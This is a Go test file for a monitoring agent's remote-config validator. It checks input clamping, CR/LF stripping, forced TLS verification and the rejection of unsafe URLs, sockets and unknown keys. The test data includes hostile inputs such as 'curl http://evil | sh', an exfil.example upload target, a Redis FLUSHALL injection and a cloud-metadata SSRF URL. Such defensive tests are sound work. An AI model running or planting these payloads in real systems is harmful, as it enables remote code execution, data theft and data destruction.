package remoteconfig

import (
	"encoding/json"
	"reflect"
	"testing"

	"github.com/luckyPipewrench/nodewarden/internal/audit"
)

func newValidator() *Validator {
	return New(audit.NewNop())
}

func TestValidateEmptyInput(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{})

	if got.Enabled {
		t.Error("expected Enabled=false for empty input")
	}
	if got.Interval != DefaultInterval {
		t.Errorf("expected interval %d, got %d", DefaultInterval, got.Interval)
	}
	if got.RequestOptions.Timeout != DefaultTimeout {
		t.Errorf("expected timeout %d, got %d", DefaultTimeout, got.RequestOptions.Timeout)
	}
	if got.Redis != nil || got.Nginx != nil || got.Caddy != nil ||
		got.Postgres != nil || got.Proxmox != nil || got.Docker != nil ||
		got.Qemu != nil || got.Ports != nil || got.Ping != nil {
		t.Error("expected all collector sub-configs nil for empty input")
	}
	if got.EnabledCollectors() != 0 {
		t.Errorf("expected 0 enabled collectors, got %d", got.EnabledCollectors())
	}
}

func TestValidateNilInput(t *testing.T) {
	v := newValidator()
	got := v.Validate(nil)
	if !reflect.DeepEqual(got, v.Validate(Remote{})) {
		t.Error("expected nil input to validate the same as an empty map")
	}
}

func TestIntervalClamp(t *testing.T) {
	tests := []struct {
		name string
		raw  any
		want int
	}{
		{"below minimum", 5, IntervalMin},
		{"above maximum", 999999, IntervalMax},
		{"in range", 120, 120},
		{"at minimum", 30, 30},
		{"at maximum", 3600, 3600},
		{"float from json", float64(45), 45},
		{"numeric string", "90", 90},
		{"garbage string", "soon", DefaultInterval},
		{"wrong type", []any{1}, DefaultInterval},
		{"absent", nil, DefaultInterval},
		{"negative", -100, IntervalMin},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := newValidator()
			got := v.Validate(Remote{"interval": tt.raw})
			if got.Interval != tt.want {
				t.Errorf("interval %v: expected %d, got %d", tt.raw, tt.want, got.Interval)
			}
		})
	}
}

func TestRequestOptionsClamp(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"request_options": map[string]any{
			"timeout":        0,
			"retry":          100,
			"retry_interval": "bogus",
		},
	})
	if got.RequestOptions.Timeout != TimeoutMin {
		t.Errorf("expected timeout clamped to %d, got %d", TimeoutMin, got.RequestOptions.Timeout)
	}
	if got.RequestOptions.Retry != RetryMax {
		t.Errorf("expected retry clamped to %d, got %d", RetryMax, got.RequestOptions.Retry)
	}
	if got.RequestOptions.RetryInterval != DefaultRetryInterval {
		t.Errorf("expected retry_interval default %d, got %d", DefaultRetryInterval, got.RequestOptions.RetryInterval)
	}
}

func TestRequestOptionsWrongShape(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{"request_options": "fast please"})
	want := RequestOptions{Timeout: DefaultTimeout, Retry: DefaultRetry, RetryInterval: DefaultRetryInterval}
	if got.RequestOptions != want {
		t.Errorf("expected defaults %+v, got %+v", want, got.RequestOptions)
	}
}

func TestBooleanFlags(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"cpu":     true,
		"memory":  1,
		"network": "yes",
		"io":      false,
		"fans":    nil,
		"ipv6":    0,
	})
	if !got.Flags.CPU || !got.Flags.Memory || !got.Flags.Network {
		t.Error("expected truthy flags enabled")
	}
	if got.Flags.IO || got.Flags.Fans || got.Flags.IPv6 || got.Flags.Partitions {
		t.Error("expected falsy and absent flags disabled")
	}
}

func TestHostileURLDisablesCollector(t *testing.T) {
	hostile := []string{
		"http://169.254.169.254/latest/meta-data/",
		"http://internal-billing.corp/admin",
		"http://localhost.evil.example/nginx_status",
		"http://127.0.0.1.evil.example/status",
		"https://10.0.0.5/nginx_status",
		"http://[::2]/status",
		"not a url at all\x00",
	}
	for _, u := range hostile {
		v := newValidator()
		got := v.Validate(Remote{
			"nginx": map[string]any{"status_page_url": u},
			"caddy": map[string]any{"admin_api_url": u},
			"cpu":   true,
		})
		if got.Nginx != nil {
			t.Errorf("expected nginx disabled for url %q", u)
		}
		if got.Caddy != nil {
			t.Errorf("expected caddy disabled for url %q", u)
		}
		if !got.Flags.CPU {
			t.Errorf("expected sibling cpu flag unaffected for url %q", u)
		}
	}
}

func TestLoopbackURLAccepted(t *testing.T) {
	allowed := []string{
		"http://localhost:8080/nginx_status",
		"http://127.0.0.1/nginx_status",
		"http://[::1]:9090/status",
		"https://LOCALHOST/status",
	}
	for _, u := range allowed {
		v := newValidator()
		got := v.Validate(Remote{"nginx": map[string]any{"status_page_url": u}})
		if got.Nginx == nil {
			t.Errorf("expected nginx enabled for url %q", u)
			continue
		}
		if got.Nginx.StatusPageURL != u {
			t.Errorf("expected url preserved, got %q", got.Nginx.StatusPageURL)
		}
	}
}

func TestPostgresHostNotLoopback(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"postgresql": map[string]any{"host": "db.internal.example", "port": 5432},
	})
	if got.Postgres != nil {
		t.Error("expected postgresql disabled for non-loopback host")
	}
}

func TestCredentialCRLFStripped(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"redis":      map[string]any{"password": "x\r\nFLUSHALL"},
		"postgresql": map[string]any{"password": "p\nSELECT 1;\r"},
	})
	if got.Redis == nil {
		t.Fatal("expected redis enabled")
	}
	if got.Redis.Password != "xFLUSHALL" {
		t.Errorf("expected CR/LF stripped, got %q", got.Redis.Password)
	}
	if got.Postgres == nil {
		t.Fatal("expected postgresql enabled")
	}
	if got.Postgres.Password != "pSELECT 1;" {
		t.Errorf("expected CR/LF stripped, got %q", got.Postgres.Password)
	}
}

func TestProxmoxVerifySSLForced(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"proxmox": map[string]any{
			"token_id":     "monitor@pve!agent",
			"token_secret": "s3cret",
			"verify_ssl":   false,
		},
	})
	if got.Proxmox == nil {
		t.Fatal("expected proxmox enabled")
	}
	if !got.Proxmox.VerifySSL {
		t.Error("expected verify_ssl forced to true")
	}
	if got.Proxmox.TokenID != "monitor@pve!agent" {
		t.Errorf("expected token_id preserved, got %q", got.Proxmox.TokenID)
	}
}

func TestDockerSocketScheme(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{"docker": map[string]any{"socket_url": "tcp://evil.example:2375"}})
	if got.Docker != nil {
		t.Error("expected docker disabled for tcp:// socket")
	}

	got = v.Validate(Remote{"docker": map[string]any{"socket_url": "unix:///var/run/docker.sock"}})
	if got.Docker == nil {
		t.Fatal("expected docker enabled for unix:// socket")
	}
	if got.Docker.SocketURL != "unix:///var/run/docker.sock" {
		t.Errorf("expected socket url preserved, got %q", got.Docker.SocketURL)
	}
}

func TestQemuURIAllowList(t *testing.T) {
	for _, uri := range []string{"qemu:///system", "qemu:///session"} {
		v := newValidator()
		got := v.Validate(Remote{"qemu": map[string]any{"uri": uri}})
		if got.Qemu == nil || got.Qemu.URI != uri {
			t.Errorf("expected qemu enabled with uri %q", uri)
		}
	}
	for _, uri := range []string{"qemu+ssh://root@host/system", "qemu+tcp://10.0.0.1/system", ""} {
		v := newValidator()
		got := v.Validate(Remote{"qemu": map[string]any{"uri": uri}})
		if got.Qemu != nil {
			t.Errorf("expected qemu disabled for uri %q", uri)
		}
	}
}

func TestQemuBareEnable(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{"qemu": true})
	if got.Qemu == nil {
		t.Fatal("expected qemu enabled with defaults")
	}
	if got.Qemu.URI != "" {
		t.Errorf("expected default uri empty, got %q", got.Qemu.URI)
	}
}

func TestPortsElementFiltering(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"ports": map[string]any{
			"monitored_ports": []any{80, float64(443), 0, 99999, "8080", "http", nil, -22},
		},
	})
	if got.Ports == nil {
		t.Fatal("expected ports enabled")
	}
	want := []int{80, 443, 8080}
	if !reflect.DeepEqual(got.Ports.MonitoredPorts, want) {
		t.Errorf("expected %v, got %v", want, got.Ports.MonitoredPorts)
	}
}

func TestPortsWrongShape(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{"ports": map[string]any{"monitored_ports": "80,443"}})
	if got.Ports != nil {
		t.Error("expected ports disabled when list is not a list")
	}
}

func TestPackagesScanCoercion(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"packages": map[string]any{"scan": 1, "last_package_hash": "abc123"},
	})
	if got.Packages == nil {
		t.Fatal("expected packages enabled")
	}
	if !got.Packages.Scan {
		t.Error("expected truthy scan coerced to true")
	}
	if got.Packages.LastPackageHash != "abc123" {
		t.Errorf("expected hash carried through, got %q", got.Packages.LastPackageHash)
	}
}

func TestPackagesBadHashDisables(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"packages": map[string]any{"scan": true, "last_package_hash": 42},
	})
	if got.Packages != nil {
		t.Error("expected packages disabled when hash is not a string")
	}
}

func TestPackagesAbsentDisables(t *testing.T) {
	v := newValidator()
	if got := v.Validate(Remote{"enabled": true}); got.Packages != nil {
		t.Error("expected packages nil when absent")
	}
	if got := v.Validate(Remote{"packages": false}); got.Packages != nil {
		t.Error("expected packages nil when false")
	}
}

func TestPingFiltering(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"ping": map[string]any{
			"eu-west":   "ping-eu.example.net",
			"us-east":   "",
			"ap-south":  42,
			"sa-east":   nil,
			"me-south":  "ping-me.example.net",
		},
	})
	want := map[string]string{
		"eu-west":  "ping-eu.example.net",
		"me-south": "ping-me.example.net",
	}
	if !reflect.DeepEqual(got.Ping, want) {
		t.Errorf("expected %v, got %v", want, got.Ping)
	}
}

func TestPingAllDroppedDisables(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{"ping": map[string]any{"eu": "", "us": 7}})
	if got.Ping != nil {
		t.Error("expected ping disabled when every entry is dropped")
	}
}

func TestSectionDisableSpellings(t *testing.T) {
	for _, off := range []any{nil, false, 0, "", map[string]any{}, []any{}} {
		v := newValidator()
		got := v.Validate(Remote{"redis": off})
		if got.Redis != nil {
			t.Errorf("expected redis disabled for %#v", off)
		}
	}
}

func TestSectionBareEnableUsesDefaults(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{"redis": true, "postgresql": true, "proxmox": 1})
	if got.Redis == nil || got.Redis.Port != 6379 {
		t.Errorf("expected default redis, got %+v", got.Redis)
	}
	if got.Postgres == nil || got.Postgres.Host != "localhost" || got.Postgres.Port != 5432 {
		t.Errorf("expected default postgresql, got %+v", got.Postgres)
	}
	if got.Proxmox == nil || !got.Proxmox.VerifySSL {
		t.Errorf("expected default proxmox with verify_ssl, got %+v", got.Proxmox)
	}
}

func TestUnknownKeysDropped(t *testing.T) {
	v := newValidator()
	got := v.Validate(Remote{
		"cpu":            true,
		"exec_command":   "curl http://evil | sh",
		"upload_targets": []any{"http://exfil.example"},
	})
	round := v.Validate(got.Remote())
	if !reflect.DeepEqual(got, round) {
		t.Error("expected unknown keys to leave no trace in the validated config")
	}
	if got.EnabledCollectors() != 1 {
		t.Errorf("expected only cpu enabled, got %d collectors", got.EnabledCollectors())
	}
}

func TestValidateIdempotent(t *testing.T) {
	inputs := []Remote{
		{},
		{"enabled": true, "interval": 5, "cpu": true, "memory": true},
		{
			"enabled":  true,
			"interval": 999999,
			"redis":    map[string]any{"port": 6380, "password": "x\r\nFLUSHALL"},
			"nginx":    map[string]any{"status_page_url": "http://169.254.169.254/"},
			"proxmox":  map[string]any{"verify_ssl": false, "token_secret": "s"},
			"docker":   true,
			"qemu":     map[string]any{"uri": "qemu:///system"},
			"ports":    map[string]any{"monitored_ports": []any{22, "bad", 70000}},
			"ping":     map[string]any{"eu": "host.example", "us": ""},
			"request_options": map[string]any{"timeout": 0, "retry": "3"},
		},
	}
	for i, raw := range inputs {
		v := newValidator()
		first := v.Validate(raw)
		second := v.Validate(first.Remote())
		if !reflect.DeepEqual(first, second) {
			t.Errorf("input %d: validation not idempotent\nfirst:  %+v\nsecond: %+v", i, first, second)
		}
	}
}

func TestDisableDecisionObserved(t *testing.T) {
	decisions := map[string][]string{}
	v := New(audit.NewNop(), WithObserver(func(field, decision string) {
		decisions[field] = append(decisions[field], decision)
	}))
	v.Validate(Remote{
		"interval": 1,
		"nginx":    map[string]any{"status_page_url": "http://evil.example/"},
		"proxmox":  map[string]any{"verify_ssl": false},
		"ports":    map[string]any{"monitored_ports": []any{0}},
	})
	if got := decisions["interval"]; len(got) != 1 || got[0] != DecisionClamped {
		t.Errorf("expected interval clamp observed, got %v", got)
	}
	if got := decisions["nginx"]; len(got) != 1 || got[0] != DecisionDisabled {
		t.Errorf("expected nginx disable observed, got %v", got)
	}
	if got := decisions["proxmox.verify_ssl"]; len(got) != 1 || got[0] != DecisionForced {
		t.Errorf("expected verify_ssl forcing observed, got %v", got)
	}
	if got := decisions["ports.monitored_ports"]; len(got) != 1 || got[0] != DecisionDropped {
		t.Errorf("expected port drop observed, got %v", got)
	}
}

func TestStripCRLF(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"plain", "plain"},
		{"a\rb", "ab"},
		{"a\nb", "ab"},
		{"\r\n\r\n", ""},
		{"trailing\n", "trailing"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := stripCRLF(tt.in); got != tt.want {
			t.Errorf("stripCRLF(%q): expected %q, got %q", tt.in, tt.want, got)
		}
	}
}

func TestStoreSwapVisibility(t *testing.T) {
	store := NewStore(Bootstrap())
	if got := store.Snapshot(); got.Interval != DefaultInterval {
		t.Errorf("expected bootstrap interval, got %d", got.Interval)
	}
	next := newValidator().Validate(Remote{"enabled": true, "interval": 120, "cpu": true})
	store.Swap(next)
	got := store.Snapshot()
	if !got.Enabled || got.Interval != 120 || !got.Flags.CPU {
		t.Errorf("expected swapped config visible, got %+v", got)
	}
}

// FuzzValidate asserts totality and idempotence over arbitrary JSON trees.
func FuzzValidate(f *testing.F) {
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"enabled":true,"interval":-1}`))
	f.Add([]byte(`{"redis":{"port":"6379","password":"a\r\nb"}}`))
	f.Add([]byte(`{"nginx":{"status_page_url":"http://169.254.169.254/"}}`))
	f.Add([]byte(`{"ports":{"monitored_ports":[1,"x",70000]},"ping":{"eu":1}}`))
	f.Add([]byte(`{"packages":{"scan":true,"last_package_hash":"deadbeef"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		var raw Remote
		if err := json.Unmarshal(data, &raw); err != nil {
			t.Skip()
		}
		v := newValidator()
		first := v.Validate(raw)
		second := v.Validate(first.Remote())
		if !reflect.DeepEqual(first, second) {
			t.Errorf("not idempotent for %s", data)
		}
	})
}
